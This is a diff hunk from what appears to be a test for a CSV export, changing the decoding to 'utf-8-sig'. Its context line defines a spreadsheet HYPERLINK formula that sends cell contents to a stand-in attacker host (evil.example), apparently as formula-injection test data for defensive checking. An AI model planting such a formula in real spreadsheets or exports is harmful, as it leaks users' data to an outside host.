@@ -24,7 +24,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open record")'
 
 
 def _rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
-    body = b"".join(response.streaming_content).decode()
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
     return list(csv.DictReader(io.StringIO(body)))
 
 
